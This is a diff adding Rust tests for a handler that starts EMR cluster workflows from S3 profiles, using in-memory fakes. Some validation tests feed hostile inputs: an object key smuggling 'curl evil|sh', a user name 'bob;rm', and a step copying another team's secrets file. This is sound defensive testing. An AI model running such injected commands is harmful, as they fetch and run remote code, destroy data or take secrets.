@@ -1,0 +1,714 @@
+//! Handler tests with in-memory fakes for every port.
+
+use std::collections::BTreeMap;
+use std::sync::Mutex;
+
+use crate::emr::ClusterState;
+use crate::errors::{Failure, Reported};
+use crate::ports::{AwsError, ClusterSummary};
+use serde_json::{Value, json};
+
+use super::*;
+
+const TUTORIAL: &str = include_str!("../../../../profiles/tutorial.toml");
+const RETRAIN: &str = include_str!("../../../../profiles/retrain.toml");
+
+#[derive(Default)]
+struct Profiles {
+    files: BTreeMap<String, String>,
+    failure: Option<bool>,
+}
+
+impl ProfileStore for Profiles {
+    async fn read_profile(&self, name: &str) -> Result<Option<String>, AwsError> {
+        if let Some(retryable) = self.failure {
+            return Err(AwsError::new(
+                "S3 GetObject",
+                retryable,
+                Some("SlowDown".into()),
+                "injected",
+            ));
+        }
+        Ok(self.files.get(name).cloned())
+    }
+    async fn list_profiles(&self) -> Result<Vec<String>, AwsError> {
+        Ok(self.files.keys().cloned().collect())
+    }
+    fn location(&self, name: &str) -> String {
+        format!("s3://sparkhub-test/profiles/{name}.toml")
+    }
+}
+
+#[derive(Default)]
+struct Scripts(Mutex<BTreeMap<String, String>>);
+
+impl ScriptStore for Scripts {
+    async fn put_if_absent(&self, key: &str, body: &str) -> Result<bool, AwsError> {
+        let mut stored = self.0.lock().unwrap();
+        if stored.contains_key(key) {
+            return Ok(false);
+        }
+        stored.insert(key.into(), body.into());
+        Ok(true)
+    }
+}
+
+#[derive(Default)]
+struct Executions {
+    started: Mutex<BTreeMap<String, Value>>,
+    /// Another delivery starts the same execution between our check and our start.
+    race: bool,
+}
+
+fn arn(name: &str) -> String {
+    format!("arn:aws:states:us-east-1:123456789012:execution:sparkhub-cluster:{name}")
+}
+
+impl Workflow for Executions {
+    async fn find_execution(&self, name: &str) -> Result<Option<String>, AwsError> {
+        Ok(self
+            .started
+            .lock()
+            .unwrap()
+            .contains_key(name)
+            .then(|| arn(name)))
+    }
+    async fn start_execution(&self, name: &str, input: &str) -> Result<Started, AwsError> {
+        // Let concurrent invocations interleave here, as real calls would.
+        tokio::task::yield_now().await;
+        let mut started = self.started.lock().unwrap();
+        if self.race || started.contains_key(name) {
+            return Ok(Started::AlreadyExisted(arn(name)));
+        }
+        started.insert(name.into(), serde_json::from_str(input).unwrap());
+        Ok(Started::New(arn(name)))
+    }
+    /// Every started execution still runs (none has a cluster yet).
+    async fn running_executions(&self) -> Result<Vec<String>, AwsError> {
+        tokio::task::yield_now().await;
+        Ok(self.started.lock().unwrap().keys().cloned().collect())
+    }
+}
+
+#[derive(Default)]
+struct Clusters {
+    clusters: Vec<ClusterSummary>,
+    /// The names asked for.
+    asked: Mutex<Vec<String>>,
+}
+
+impl ClusterDirectory for Clusters {
+    async fn active_clusters(&self, name: &str) -> Result<Vec<ClusterSummary>, AwsError> {
+        self.asked.lock().unwrap().push(name.into());
+        tokio::task::yield_now().await;
+        Ok(self
+            .clusters
+            .iter()
+            .filter(|c| c.name == name)
+            .cloned()
+            .collect())
+    }
+}
+
+/// An in-memory compare-and-swap store per key.
+#[derive(Default)]
+struct Leases(Mutex<BTreeMap<String, (u32, String)>>);
+
+impl LeaseStore for Leases {
+    async fn read(&self, key: &str) -> Result<Option<(String, String)>, AwsError> {
+        tokio::task::yield_now().await;
+        Ok(self
+            .0
+            .lock()
+            .unwrap()
+            .get(key)
+            .map(|(v, b)| (v.to_string(), b.clone())))
+    }
+    async fn create(&self, key: &str, body: &str) -> Result<Option<String>, AwsError> {
+        tokio::task::yield_now().await;
+        let mut all = self.0.lock().unwrap();
+        if all.contains_key(key) {
+            return Ok(None);
+        }
+        all.insert(key.into(), (1, body.into()));
+        Ok(Some("1".into()))
+    }
+    async fn replace(
+        &self,
+        key: &str,
+        version: &str,
+        body: &str,
+    ) -> Result<Option<String>, AwsError> {
+        tokio::task::yield_now().await;
+        let mut all = self.0.lock().unwrap();
+        match all.get_mut(key) {
+            Some((v, b)) if v.to_string() == version => {
+                *v += 1;
+                *b = body.into();
+                Ok(Some(v.to_string()))
+            }
+            _ => Ok(None),
+        }
+    }
+}
+
+fn cluster(id: &str, name: &str, tags: &[(&str, &str)]) -> ClusterSummary {
+    ClusterSummary {
+        id: id.into(),
+        name: name.into(),
+        state: ClusterState::Waiting,
+        tags: tags
+            .iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect(),
+    }
+}
+
+type Handler = CreateCluster<Profiles, Scripts, Executions, Clusters, Leases>;
+
+fn handler_with(files: &[(&str, &str)]) -> Handler {
+    CreateCluster {
+        config: Config {
+            bucket: "sparkhub-test".into(),
+            state_machine_arn:
+                "arn:aws:states:us-east-1:123456789012:stateMachine:sparkhub-cluster".into(),
+            topic_arn: None,
+            poll_seconds: 30,
+            master_security_group: None,
+            service_role: "sparkhub-emr-service".into(),
+            instance_role_prefix: "sparkhub-node".into(),
+            max_concurrency: crate::settings::DEFAULT_MAX_CONCURRENCY,
+        },
+        profiles: Profiles {
+            files: files
+                .iter()
+                .map(|(k, v)| (k.to_string(), v.to_string()))
+                .collect(),
+            failure: None,
+        },
+        scripts: Scripts::default(),
+        workflow: Executions::default(),
+        clusters: Clusters::default(),
+        leases: Leases::default(),
+        lease_wait: LeaseWait {
+            attempts: 200,
+            pause: std::time::Duration::from_millis(1),
+        },
+        now: || "2026-11-25T07:00:00Z".parse().unwrap(),
+        sleep: |d| Box::pin(tokio::time::sleep(d)),
+    }
+}
+
+fn handler() -> Handler {
+    handler_with(&[("tutorial", TUTORIAL), ("retrain", RETRAIN)])
+}
+
+fn event(name: &str) -> Value {
+    let path = crate::testing::workspace_root().join("events").join(name);
+    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
+}
+
+fn started_inputs(h: &Handler) -> BTreeMap<String, Value> {
+    h.workflow.started.lock().unwrap().clone()
+}
+
+#[tokio::test]
+async fn manual_invoke_starts_a_run_with_the_rendered_profile() {
+    let h = handler();
+    let outcome = h.handle(event("create-cluster-manual.json")).await.unwrap();
+    let name = name_of("tutorial", "manual-20261125T070000Z");
+    assert!(
+        name.starts_with("tutorial_manual-20261125T070000Z_"),
+        "{name}"
+    );
+    assert_eq!(
+        outcome,
+        Outcome::Started {
+            profile: "tutorial".into(),
+            execution_name: name.clone(),
+            execution_arn: arn(&name)
+        }
+    );
+    let inputs = started_inputs(&h);
+    let input = &inputs[&name];
+    assert_eq!(input["request"]["Name"], "sparkhub-tutorial");
+    assert_eq!(input["request"]["LogUri"], "s3://sparkhub-test/logs/");
+    assert_eq!(input["terminate_when_done"], false);
+    assert!(input.get("topic_arn").is_none());
+
+    // The bootstrap action points at an uploaded script; the users script is uploaded too.
+    let uploaded = h.scripts.0.lock().unwrap().clone();
+    assert_eq!(uploaded.len(), 3, "packages, notebook reporter, users");
+    let path = input["request"]["BootstrapActions"][0]["ScriptBootstrapAction"]["Path"]
+        .as_str()
+        .unwrap();
+    let key = path.strip_prefix("s3://sparkhub-test/").unwrap();
+    assert!(uploaded[key].contains("pip install"), "{key}");
+}
+
+#[tokio::test]
+async fn the_same_scheduled_event_twice_starts_one_run() {
+    let h = handler();
+    let first = h
+        .handle(event("create-cluster-scheduled-event.json"))
+        .await
+        .unwrap();
+    let second = h
+        .handle(event("create-cluster-scheduled-event.json"))
+        .await
+        .unwrap();
+    let name = name_of("tutorial", "53dc4d37-cffa-4f76-80c9-8b7d4a4d2eaa");
+    assert!(
+        matches!(first, Outcome::Started { ref execution_name, .. } if *execution_name == name),
+        "{first:?}"
+    );
+    assert_eq!(
+        second,
+        Outcome::AlreadyStarted {
+            profile: "tutorial".into(),
+            execution_name: name.clone(),
+            execution_arn: arn(&name)
+        }
+    );
+    assert_eq!(started_inputs(&h).len(), 1);
+}
+
+#[tokio::test]
+async fn a_concurrent_duplicate_is_already_started_too() {
+    let mut h = handler();
+    h.workflow.race = true;
+    let outcome = h
+        .handle(event("create-cluster-scheduler-target.json"))
+        .await
+        .unwrap();
+    assert!(
+        matches!(outcome, Outcome::AlreadyStarted { ref execution_name, .. } if *execution_name == name_of("tutorial", "schedule-2026-11-25T07:00:00Z")),
+        "{outcome:?}"
+    );
+}
+
+#[tokio::test]
+async fn an_s3_event_runs_the_matching_pipeline_on_the_object() {
+    let h = handler();
+    let outcome = h
+        .handle(event("create-cluster-s3-object-created.json"))
+        .await
+        .unwrap();
+    let Outcome::Started {
+        profile,
+        execution_name,
+        ..
+    } = outcome
+    else {
+        panic!("{outcome:?}")
+    };
+    assert_eq!(profile, "retrain");
+    let input = &started_inputs(&h)[&execution_name];
+    assert_eq!(input["terminate_when_done"], true);
+    let args = input["steps"][0]["HadoopJarStep"]["Args"]
+        .as_array()
+        .unwrap();
+    assert_eq!(
+        args.last().unwrap(),
+        "s3://training-data-example/incoming/2026-11-25/batch-0001.csv"
+    );
+    assert_eq!(input["steps"][1]["Name"], "train");
+}
+
+#[tokio::test]
+async fn an_object_no_trigger_matches_is_an_error_and_starts_nothing() {
+    let h = handler();
+    let mut e = event("create-cluster-s3-object-created.json");
+    e["detail"]["object"]["key"] = json!("archive/old.csv");
+    let err = h.handle(e).await.unwrap_err();
+    assert!(
+        matches!(err, CreateError::NoMatchingTrigger { .. }),
+        "{err}"
+    );
+    assert!(
+        err.to_string()
+            .contains("s3://training-data-example/archive/old.csv")
+    );
+    assert!(started_inputs(&h).is_empty());
+}
+
+#[tokio::test]
+async fn two_matching_profiles_are_an_error_naming_both() {
+    let copy = RETRAIN.replace("name = \"retrain\"", "name = \"retrain-2\"");
+    let h = handler_with(&[("retrain", RETRAIN), ("retrain-2", &copy)]);
+    let err = h
+        .handle(event("create-cluster-s3-object-created.json"))
+        .await
+        .unwrap_err();
+    assert!(err.to_string().contains("retrain, retrain-2"), "{err}");
+    assert!(started_inputs(&h).is_empty());
+}
+
+#[tokio::test]
+async fn a_broken_profile_does_not_block_other_pipelines() {
+    let h = handler_with(&[("broken", "name = "), ("retrain", RETRAIN)]);
+    let outcome = h
+        .handle(event("create-cluster-s3-object-created.json"))
+        .await
+        .unwrap();
+    assert!(matches!(outcome, Outcome::Started { ref profile, .. } if profile == "retrain"));
+}
+
+#[tokio::test]
+async fn unknown_malformed_and_invalid_profiles_are_clear_errors() {
+    let h = handler();
+    let err = h.handle(json!({"profile": "nope"})).await.unwrap_err();
+    assert_eq!(
+        err.to_string(),
+        "profile \"nope\" not found at s3://sparkhub-test/profiles/nope.toml; upload it there (see profiles/ for examples)"
+    );
+    assert_eq!(err.error_type(), "sparkhub.ProfileNotFound");
+
+    let h = handler_with(&[("tutorial", "name = \"tutorial\"\ncolour = \"blue\"\n")]);
+    let err = h.handle(json!({"profile": "tutorial"})).await.unwrap_err();
+    let text = err.to_string();
+    assert!(
+        text.contains("s3://sparkhub-test/profiles/tutorial.toml") && text.contains("colour"),
+        "{text}"
+    );
+
+    let invalid = TUTORIAL
+        .replace(
+            "users = [\"philipp\", \"admin\"]",
+            "users = [\"philipp\", \"bob;rm\"]",
+        )
+        .replace("timeout_minutes = 60", "timeout_minutes = 1");
+    let h = handler_with(&[("tutorial", &invalid)]);
+    let err = h.handle(json!({"profile": "tutorial"})).await.unwrap_err();
+    let text = err.to_string();
+    assert!(
+        text.contains("users[1]: \"bob;rm\"") && text.contains("idle.timeout_minutes"),
+        "every problem is named: {text}"
+    );
+    assert_eq!(err.error_type(), "sparkhub.InvalidProfile");
+
+    let renamed = TUTORIAL.replace("name = \"tutorial\"", "name = \"other\"");
+    let h = handler_with(&[("tutorial", &renamed)]);
+    assert!(
+        h.handle(json!({"profile": "tutorial"}))
+            .await
+            .unwrap_err()
+            .to_string()
+            .contains("must match its file name")
+    );
+    assert!(started_inputs(&h).is_empty());
+}
+
+#[tokio::test]
+async fn run_steps_are_validated_like_the_profile() {
+    let h = handler();
+    let err = h
+        .handle(json!({"profile": "retrain", "steps": [{"name": " ", "args": ["x"]}]}))
+        .await
+        .unwrap_err();
+    assert!(err.to_string().contains("steps[0].name"), "{err}");
+    let err = h
+        .handle(json!({"profile": "retrain", "steps": [{"name": "leak", "args": ["aws", "s3", "cp", "s3://other-team/secrets.csv", "."]}]}))
+        .await
+        .unwrap_err();
+    assert!(
+        err.to_string().contains("steps[0].args[3]") && err.to_string().contains("[access]"),
+        "a run's steps may read only the profile's [access] locations: {err}"
+    );
+    assert!(started_inputs(&h).is_empty());
+    let outcome = h
+        .handle(event("create-cluster-pipeline-run.json"))
+        .await
+        .unwrap();
+    let Outcome::Started { execution_name, .. } = outcome else {
+        panic!()
+    };
+    assert_eq!(execution_name, name_of("retrain", "backfill-2026-11"));
+    assert_eq!(
+        started_inputs(&h)[&execution_name]["steps"][0]["Name"],
+        "score"
+    );
+}
+
+fn name_of(profile: &str, run_id: &str) -> String {
+    execution_name(&ProfileName::parse(profile).unwrap(), run_id)
+}
+
+#[tokio::test]
+async fn the_active_cluster_limit_skips_and_says_why() {
+    let mut h = handler();
+    h.clusters.clusters = vec![
+        cluster(
+            "j-UNMANAGED",
+            "sparkhub-tutorial",
+            &[("sparkhub:profile", "tutorial")],
+        ),
+        cluster(
+            "j-OTHER",
+            "sparkhub-retrain",
+            &[
+                ("sparkhub:managed", "true"),
+                ("sparkhub:profile", "retrain"),
+            ],
+        ),
+    ];
+    assert!(matches!(
+        h.handle(json!({"profile": "tutorial", "run_id": "a"}))
+            .await
+            .unwrap(),
+        Outcome::Started { .. }
+    ));
+    assert_eq!(
+        *h.clusters.asked.lock().unwrap(),
+        ["sparkhub-tutorial"],
+        "only clusters with the profile's cluster name are looked at"
+    );
+    let input = &started_inputs(&h)[&name_of("tutorial", "a")];
+    assert!(
+        input["request"]["Tags"]
+            .as_array()
+            .unwrap()
+            .contains(&json!({"Key": "sparkhub:execution", "Value": name_of("tutorial", "a")})),
+        "the cluster names its run"
+    );
+
+    // Run a's cluster is up: the run counts once, as its cluster.
+    h.clusters.clusters.push(cluster(
+        "j-MINE",
+        "sparkhub-tutorial",
+        &[
+            ("sparkhub:managed", "true"),
+            ("sparkhub:profile", "tutorial"),
+            ("sparkhub:execution", &name_of("tutorial", "a")),
+        ],
+    ));
+    let outcome = h
+        .handle(json!({"profile": "tutorial", "run_id": "b"}))
+        .await
+        .unwrap();
+    let Outcome::Skipped { reason, .. } = outcome else {
+        panic!("{outcome:?}")
+    };
+    assert_eq!(
+        reason,
+        "1 active cluster(s) of profile tutorial already, the limit is 1 (max_active_clusters): j-MINE (WAITING)"
+    );
+    assert_eq!(started_inputs(&h).len(), 1);
+}
+
+#[tokio::test]
+async fn a_run_whose_cluster_is_not_listed_yet_counts() {
+    let h = handler();
+    h.handle(json!({"profile": "tutorial", "run_id": "a"}))
+        .await
+        .unwrap();
+    // No cluster is listed yet (ListClusters lags behind StartExecution).
+    let outcome = h
+        .handle(json!({"profile": "tutorial", "run_id": "b"}))
+        .await
+        .unwrap();
+    let Outcome::Skipped { reason, .. } = outcome else {
+        panic!("{outcome:?}")
+    };
+    assert!(
+        reason.contains(&format!("execution {}", name_of("tutorial", "a"))),
+        "{reason}"
+    );
+}
+
+#[tokio::test]
+async fn pipelines_get_a_default_limit_of_five_and_no_object_is_dropped_beyond_it() {
+    let h = handler();
+    let mut outcomes = Vec::new();
+    for i in 0..7 {
+        let mut e = event("create-cluster-s3-object-created.json");
+        e["id"] = json!(format!("event-{i}"));
+        outcomes.push(h.handle(e).await);
+    }
+    let started = outcomes
+        .iter()
+        .filter(|o| matches!(o, Ok(Outcome::Started { .. })))
+        .count();
+    assert_eq!(started, DEFAULT_PIPELINE_LIMIT as usize, "{outcomes:?}");
+    // Beyond the limit an object is an error Lambda retries and then keeps
+    // in the failed-invocations queue, not a quiet "skipped".
+    let err = outcomes[6].as_ref().unwrap_err();
+    assert_eq!(err.error_type(), "sparkhub.LimitReached");
+    assert!(err.is_retryable());
+    let text = err.to_string();
+    assert!(
+        text.contains("the limit is 5")
+            && text.contains("s3://")
+            && text.contains("failed-invocations queue"),
+        "{text}"
+    );
+    // A manual start beyond the limit has nothing to keep: it is skipped.
+    let manual = h
+        .handle(json!({"profile": "retrain", "run_id": "by-hand"}))
+        .await
+        .unwrap();
+    assert!(matches!(manual, Outcome::Skipped { .. }), "{manual:?}");
+}
+
+#[tokio::test]
+async fn fifty_concurrent_triggers_start_one_run() {
+    let h = std::sync::Arc::new(handler());
+    let mut tasks = tokio::task::JoinSet::new();
+    for i in 0..50 {
+        let h = h.clone();
+        tasks.spawn(async move {
+            h.handle(json!({"profile": "tutorial", "run_id": format!("burst-{i}")}))
+                .await
+        });
+    }
+    let mut started = 0;
+    while let Some(outcome) = tasks.join_next().await {
+        match outcome.unwrap().unwrap() {
+            Outcome::Started { .. } => started += 1,
+            Outcome::Skipped { .. } => {}
+            other => panic!("{other:?}"),
+        }
+    }
+    assert_eq!(
+        started, 1,
+        "max_active_clusters = 1 holds under concurrency"
+    );
+    assert_eq!(started_inputs(&h).len(), 1);
+}
+
+#[tokio::test]
+async fn a_lease_held_elsewhere_is_a_retryable_error_after_waiting() {
+    let mut h = handler();
+    h.lease_wait.attempts = 3;
+    h.leases.0.lock().unwrap().insert(
+        "locks/tutorial.json".into(),
+        (
+            1,
+            json!({"holder": "tutorial_x_000000000000", "expires_at": "2026-11-25T07:00:30Z"})
+                .to_string(),
+        ),
+    );
+    let err = h
+        .handle(json!({"profile": "tutorial", "run_id": "a"}))
+        .await
+        .unwrap_err();
+    assert!(matches!(err, CreateError::Busy { .. }), "{err}");
+    assert_eq!(err.error_type(), "sparkhub.Retryable");
+    assert!(err.to_string().contains("tutorial_x_000000000000"), "{err}");
+    assert!(started_inputs(&h).is_empty());
+
+    // Once it has expired, the lease is taken over.
+    h.now = || "2026-11-25T07:01:00Z".parse().unwrap();
+    assert!(matches!(
+        h.handle(json!({"profile": "tutorial", "run_id": "a"}))
+            .await
+            .unwrap(),
+        Outcome::Started { .. }
+    ));
+}
+
+#[tokio::test]
+async fn an_unsafe_object_key_starts_nothing() {
+    let h = handler();
+    let mut e = event("create-cluster-s3-object-created.json");
+    e["detail"]["object"]["key"] = json!("incoming/x;curl evil|sh");
+    let d = Reported::from(h.handle(e).await.unwrap_err());
+    assert_eq!(d.error_type, "sparkhub.UnsafeObjectKey");
+    assert!(
+        d.error_message.contains("rename the object"),
+        "{}",
+        d.error_message
+    );
+    assert!(started_inputs(&h).is_empty());
+    assert!(h.scripts.0.lock().unwrap().is_empty());
+}
+
+#[tokio::test]
+async fn unchanged_scripts_are_not_uploaded_again() {
+    let h = handler();
+    h.handle(json!({"profile": "retrain", "run_id": "one"}))
+        .await
+        .unwrap();
+    let uploaded = h.scripts.0.lock().unwrap().len();
+    assert!(uploaded > 0);
+    h.handle(json!({"profile": "retrain", "run_id": "two"}))
+        .await
+        .unwrap();
+    assert_eq!(started_inputs(&h).len(), 2);
+    assert_eq!(
+        h.scripts.0.lock().unwrap().len(),
+        uploaded,
+        "the second run reuses the first run's scripts"
+    );
+}
+
+#[tokio::test]
+async fn the_topic_reaches_the_workflow_input() {
+    let mut h = handler();
+    h.config.topic_arn = Some("arn:aws:sns:us-east-1:123456789012:sparkhub".into());
+    let Outcome::Started { execution_name, .. } =
+        h.handle(json!({"profile": "tutorial"})).await.unwrap()
+    else {
+        panic!()
+    };
+    assert_eq!(
+        started_inputs(&h)[&execution_name]["topic_arn"],
+        "arn:aws:sns:us-east-1:123456789012:sparkhub"
+    );
+}
+
+#[tokio::test]
+async fn aws_failures_map_to_retryable_or_permanent_diagnostics() {
+    let mut h = handler();
+    h.profiles.failure = Some(true);
+    let d = Reported::from(h.handle(json!({"profile": "tutorial"})).await.unwrap_err());
+    assert_eq!(d.error_type, "sparkhub.Retryable");
+    assert!(
+        d.error_message.contains("S3 GetObject") && d.error_message.contains("injected"),
+        "{}",
+        d.error_message
+    );
+
+    h.profiles.failure = Some(false);
+    let d = Reported::from(h.handle(json!({"profile": "tutorial"})).await.unwrap_err());
+    assert_eq!(d.error_type, "sparkhub.AwsError");
+
+    let d = Reported::from(h.handle(json!({"hello": "world"})).await.unwrap_err());
+    assert_eq!(d.error_type, "sparkhub.BadEvent");
+    assert!(started_inputs(&h).is_empty());
+}
+
+#[test]
+fn configuration_names_what_is_missing() {
+    let env = |pairs: &'static [(&str, &str)]| {
+        move |k: &str| {
+            pairs
+                .iter()
+                .find(|(n, _)| *n == k)
+                .map(|(_, v)| v.to_string())
+        }
+    };
+    let err = Config::from_lookup(env(&[("SPARKHUB_BUCKET", "b")])).unwrap_err();
+    assert_eq!(
+        err.to_string(),
+        "configuration: SPARKHUB_STATE_MACHINE_ARN is not set"
+    );
+    let config = Config::from_lookup(env(&[
+        ("SPARKHUB_BUCKET", "b"),
+        ("SPARKHUB_STATE_MACHINE_ARN", "arn"),
+        ("SPARKHUB_TOPIC_ARN", ""),
+    ]))
+    .unwrap();
+    assert_eq!(config.topic_arn, None, "an empty topic means none");
+    assert_eq!(config.poll_seconds, 30);
+    let err = Config::from_lookup(env(&[
+        ("SPARKHUB_BUCKET", "b"),
+        ("SPARKHUB_STATE_MACHINE_ARN", "arn"),
+        ("SPARKHUB_POLL_SECONDS", "0"),
+    ]))
+    .unwrap_err();
+    assert!(
+        err.to_string().contains("SPARKHUB_POLL_SECONDS=\"0\""),
+        "{err}"
+    );
+}
